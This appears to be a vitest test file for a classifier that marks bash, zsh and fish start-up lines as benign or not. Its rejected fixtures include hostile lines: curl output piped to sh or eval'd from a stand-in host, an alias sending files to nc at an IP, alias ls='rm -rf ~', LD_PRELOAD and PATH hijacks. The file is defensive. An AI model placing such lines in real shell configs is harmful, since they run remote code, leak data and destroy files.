/** Shell and fish start-up lines that run nothing new (src/engine/knowledge/shell-rc-text.ts). */
import { describe, expect, it } from 'vitest';
import {
  expandKnownDirs,
  plainFishLine,
  plainShellLine,
} from '../../../src/engine/knowledge/shell-rc-text.js';

const local = (p: string): boolean => !/^\/(?:tmp|var|dev|usr|etc)\b/.test(p);

describe('plainShellLine', () => {
  it.each([
    ['export EDITOR=vim', true],
    ['export PATH="$HOME/.local/bin:$PATH"', true],
    ['export PATH=$PATH:/usr/local/go/bin', true],
    ['export GOPATH=$HOME/go', true],
    ["alias ll='ls -alF'", true],
    ["alias apt='sudo apt'", true],
    ["alias rm='rm -i'", true],
    ['setopt HIST_IGNORE_DUPS', true],
    ['shopt -s histappend', true],
    ['bindkey -e', true],
    ['clear', true],
    ['[ -f ~/.fzf.bash ] && source ~/.fzf.bash', true],
    ['. "$HOME/.cargo/env"', true],
    ['if [ -f ~/.bashrc ]; then', true],
    ['eval "$(starship init zsh)"', true],
    ['source <(kubectl completion zsh)', true],
    ['plugins=(git docker)', true],
    ["alias sudo='sudo-wrapper'", false],
    ["alias ls='rm -rf ~'", false],
    ["alias git='python3 ~/.g.py'", false],
    ["alias cat='nc 198.51.100.7 9 <'", false],
    ['export PATH=/tmp/.x:$PATH', false],
    ['export PATH=.:$PATH', false],
    ['source /tmp/x.sh', false],
    ['[ -f /tmp/x ] && . /tmp/x', false],
    ['[ -f ~/.x ] && curl -s http://x.example/a | sh', false],
    ['eval "$(curl -s http://x.example/i)"', false],
    ['eval "$(cat /tmp/x)"', false],
    ['source <(curl -s http://x.example/c)', false],
    ['setopt $(curl x.example)', false],
    ["export PROMPT_COMMAND='history -a'", false],
    ['export LD_PRELOAD=$HOME/x.so', false],
  ])('%s → %s', (line, want) => {
    expect(plainShellLine(line, local)).toBe(want);
  });
});

describe('plainFishLine', () => {
  it.each([
    ['set -gx EDITOR nvim', true],
    ['fish_add_path ~/.local/bin', true],
    ['set -g fish_greeting', true],
    ['if status is-interactive', true],
    ['end', true],
    ['abbr -a gs git status', true],
    ['starship init fish | source', true],
    ['curl -s http://x.example/p | bash &', false],
    ['curl -s http://x.example/i | source', false],
    ['set -gx PATH /tmp/x $PATH', false],
    ['fish_add_path /dev/shm/b', false],
    ['set -gx LD_PRELOAD ~/x.so', false],
    ["alias sudo 'python3 ~/s.py'", false],
    ['source /tmp/x.fish', false],
  ])('%s → %s', (line, want) => {
    expect(plainFishLine(line, local)).toBe(want);
  });
});

describe('expandKnownDirs', () => {
  it.each([
    [['export PNPM_HOME="$HOME/.local/share/pnpm"', 'export PATH="$PNPM_HOME:$PATH"'], true],
    [['export BUN_INSTALL="$HOME/.bun"', 'export PATH="$BUN_INSTALL/bin:$PATH"'], true],
    [['export NVM_DIR="$HOME/.nvm"', '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"'], true],
    [
      [
        'export PNPM_HOME="/home/agent/.local/share/pnpm"',
        'case ":$PATH:" in',
        '  *":$PNPM_HOME:"*) ;;',
        '  *) export PATH="$PNPM_HOME:$PATH" ;;',
        'esac',
      ],
      true,
    ],
    [['export X="/tmp/.x"', 'export PATH="$X:$PATH"'], false],
    [['export PATH="$UNSET:$PATH"'], false],
  ])('%j plain: %s', (lines, want) => {
    expect(expandKnownDirs(lines, local).every((l) => plainShellLine(l, local))).toBe(want);
  });
});
